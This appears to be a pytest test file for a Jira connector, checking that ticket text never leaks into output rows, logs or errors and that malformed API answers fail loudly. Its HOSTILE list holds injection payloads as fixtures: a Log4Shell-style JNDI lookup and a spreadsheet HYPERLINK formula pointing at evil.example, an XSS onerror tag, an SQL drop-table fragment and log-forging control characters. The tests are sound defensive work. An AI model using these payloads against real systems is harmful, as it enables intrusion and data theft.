"""Texts of tickets end in the connector: nothing of them in rows, cursor, logs or errors.

METHOD 10, cases 5, 6, 11, 13, 18 and 19, as far as they are the connector's.
"""

import json
import logging
from datetime import timedelta

import pytest

from connectors.connector import SourceError
from connectors.demo.services import jira as made_up
from tests.connectors.jira_given import (
    ANA,
    AT,
    BEN,
    CAI,
    CORE,
    column,
    hours,
    key,
    night,
    site,
    synced,
    ticket,
    told,
)

HOSTILE = [
    '=HYPERLINK("https://evil.example","pay")',
    "<img src=x onerror=alert(1)>",
    "Ana\u202egnissim\u2066",
    "a\nERROR forged\r\x1b[31mred\x07\x00",
    "{{7*7}} ${jndi:ldap://evil.example} '; drop table x;--",
]


def everything(batch):
    """All that leaves the connector, in one text."""
    frames = [*batch.rows.values(), *batch.whole.values()]
    rest = json.dumps([batch.cursor, [(one.where, one.text) for one in batch.problems]])
    return rest + "".join(frame.write_ndjson() for frame in frames)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_of_a_title_comment_or_label_goes_further(text, caplog):
    caplog.set_level(logging.DEBUG)
    marked = f"{text} sesame"
    hostile = ticket(title=marked, labels=[marked]).comment(marked, by=ANA, at=hours(1))
    hostile.relabel(["sesame"], by=ANA, at=hours(2)).plan("sesame", by=ANA, at=hours(3))
    batch = synced(site(hostile))
    assert len(column(batch, "field")) == 4
    assert "sesame" not in everything(batch)
    assert "sesame" not in caplog.text


@pytest.mark.parametrize("text", HOSTILE)
def test_a_name_stands_with_the_account_alone_and_without_what_forges(text):
    mallory = made_up.user("acc-mallory", f"{text} Mallory")
    moved = ticket(opened_by=mallory).assign(mallory, by=BEN, at=hours(1))
    batch = synced(site(moved, users=[mallory]))
    assert "Mallory" not in told(batch).write_ndjson()
    shown = batch.rows["raw.accounts"].filter(account_id="acc-mallory")["name"].item()
    assert "Mallory" in shown
    assert not set(shown) & set("<>\n\r\x1b\x07\x00\u202e\u2066")


def test_a_status_or_component_cannot_forge_a_scope():
    forged = made_up.component("10109", "x\nproject:CORE\u202e")
    launch = made_up.project("10000", "LNCH", "Launch", components=[forged])
    one = ticket(project=launch, components=["x\nproject:CORE\u202e"], status="To\nDo")
    batch = synced(site(one, projects=[launch]))
    assert column(batch, "scope_chain") == ["component:LNCH/x project:CORE\nproject:LNCH"]
    assert column(batch, "status") == ["To Do"]


@pytest.mark.parametrize("broken", ["created", "updated", "project"])
def test_a_ticket_that_cannot_be_understood_is_counted_and_keeps_its_rows(broken, caplog):
    caplog.set_level(logging.DEBUG)
    odd = ticket(2, title="sesame")
    odd.issue["fields"][broken] = "sesame"
    page = json.dumps({"issues": [ticket(1).issue, odd.issue]}).encode()
    batch = synced(site(ticket(1)), made_up.Fault("search/jql", status=200, body=page))
    assert set(column(batch, "ticket_key")) == {"LNCH-1"}
    assert odd.issue["id"] not in batch.objects["raw.ticket_events"][1]
    assert [one.text for one in batch.problems] == [
        "tickets left out, as they are in a shape that is not Jira's: 1"
    ]
    assert "sesame" not in everything(batch) + caplog.text


@pytest.mark.parametrize("body", [b"[]", b"null", b'"x"', b"{}", b'{"errorMessages": ["sesame"]}'])
@pytest.mark.parametrize("endpoint", ["component", "search/jql", "changelog/bulkfetch"])
def test_an_answer_in_another_shape_is_an_error_and_never_nothing(endpoint, body):
    """Changes that are not in it would be taken for changes that are no more."""
    moved = ticket().assign(BEN, by=ANA, at=hours(1))
    with night(site(moved), made_up.Fault(endpoint, status=200, body=body, times=9)) as given:
        with pytest.raises(SourceError, match="not as Jira does; look at url") as caught:
            given.sync()
        assert given.waits == []
    assert "sesame" not in str(caught.value)


@pytest.mark.parametrize("endpoint", ["serverInfo", "field", "project"])
def test_a_site_that_answers_with_something_else_is_no_jira(endpoint):
    fault = made_up.Fault(endpoint, status=200, body=b'"hello"')
    with night(site(ticket()), fault) as given, pytest.raises(SourceError, match="not as Jira"):
        given.sync()


def test_tickets_are_not_gone_because_an_odd_answer_names_none():
    stays, gone = ticket(1), ticket(2)
    with night(site(stays, gone)) as given:
        cursor = given.sync().cursor
        given.site.issues.remove(gone.issue)
        given.now += timedelta(days=8)
        given.traffic.faults.append(made_up.Fault("issue/bulkfetch", status=200, body=b"{}"))
        with pytest.raises(SourceError, match="not as Jira does"):
            given.sync(cursor)


@pytest.mark.parametrize("day", ["20215-01-01", "soon", 7, None])
def test_a_version_without_a_day_that_can_be_is_no_release(day):
    launch = made_up.project("10000", "LNCH", "Launch", lead=ANA)
    launch["versions"] = [
        {"id": "1", "releaseDate": day}, {"id": "2", "releaseDate": "2026-10-02"},
    ]  # fmt: skip
    batch = synced(site(ticket(project=launch), projects=[launch]))
    assert batch.whole["raw.releases"]["version_id"].to_list() == ["2"]


def test_a_change_that_cannot_be_understood_leaves_its_ticket_out():
    odd, good = ticket(1).assign(BEN, by=ANA, at=hours(1)), ticket(2)
    odd.issue["histories"][0]["created"] = "sesame"
    log = {"issueId": odd.issue["id"], "changeHistories": odd.issue["histories"]}
    page = json.dumps({"issueChangeLogs": [log]}).encode()
    odd.issue["histories"].clear()
    batch = synced(site(odd, good), made_up.Fault("changelog/bulkfetch", status=200, body=page))
    assert set(column(batch, "ticket_key")) == {"LNCH-2"}
    assert len(batch.problems) == 1


def test_an_error_has_nothing_of_the_answer():
    fault = made_up.Fault("search/jql", status=400, body=b'{"errorMessages": ["sesame"]}')
    with night(site(ticket()), fault) as given, pytest.raises(SourceError) as caught:
        given.sync()
    behind = [caught.value, caught.value.__cause__, caught.value.__context__]
    assert "sesame" not in " ".join(map(repr, behind))


def test_a_bulk_edit_keeps_its_moments_and_ids():
    """Case 5: what makes one act of them is in `models.acts`."""
    edited = [ticket(number).prioritise("High", by=ANA, at=hours(1)) for number in range(1, 301)]
    batch = synced(site(*edited))
    assert column(batch, "happened_at", field="priority") == [hours(1)] * 300
    assert len(set(column(batch, "change_id", field="priority"))) == 300


def test_an_import_with_old_dates_stays_older_than_its_ticket():
    """Case 5: such a change is excluded in `models.acts` by exactly that."""
    imported = ticket()
    imported.issue["histories"].append(
        {"id": "1", "author": ANA, "created": made_up.moment(AT - timedelta(days=9)),
         "items": [{"field": "priority", "fieldId": "priority", "from": "1", "to": "2",
                    "fromString": "Low", "toString": "High"}]}
    )  # fmt: skip
    found = told(synced(site(imported)))
    assert [event < created for event, created in found["happened_at", "created_at"].rows()] == [
        True, False,
    ]  # fmt: skip


def test_an_assignment_taken_back_is_told_with_both_moves():
    """Case 6."""
    undone = ticket().assign(BEN, by=ANA, at=hours(1)).assign(None, by=ANA, at=hours(1.05))
    found = told(synced(site(undone))).filter(field="assignee")
    assert found["from_key", "to_key"].rows() == [(None, key(BEN)), (key(BEN), None)]


def test_a_renamed_account_is_the_same_account():
    """Case 11."""
    with night(site(ticket(1))) as given:
        first = given.sync()
        renamed = made_up.user("acc-ana", "Ana Newname")
        given.site.issues[:] = [ticket(1, opened_by=renamed).issue]
        second = given.sync(first.cursor)
    keys = [batch.rows["raw.accounts"]["account_key"].to_list() for batch in (first, second)]
    assert set(keys[1]) <= set(keys[0])
    assert "Ana Newname" in second.rows["raw.accounts"]["name"].to_list()


def test_a_ticket_that_moves_between_two_nights_is_one_ticket():
    """Case 13."""
    moved = ticket(1).assign(BEN, by=ANA, at=hours(1))
    with night(site(moved), projects=("LNCH", "CORE")) as given:
        first = given.sync()
        moved.transfer(CORE, 9, by=CAI, at=hours(30))
        second = given.sync(first.cursor)
    assert column(second, "scope_chain", field="assignee") == ["project:LNCH"]
    assert column(second, "scope_chain", field="project") == ["project:CORE"]
    assert set(column(second, "ticket_id")) == set(column(first, "ticket_id"))
    assert set(column(second, "ticket_key")) == {"CORE-9"}


def test_whom_a_ticket_was_given_at_once_and_for_good_is_not_missed():
    """Case 18."""
    batch = synced(site(ticket(assignee=CAI)))
    assert told(batch)["field", "actor_key", "to_key"].rows() == [("created", key(ANA), key(CAI))]
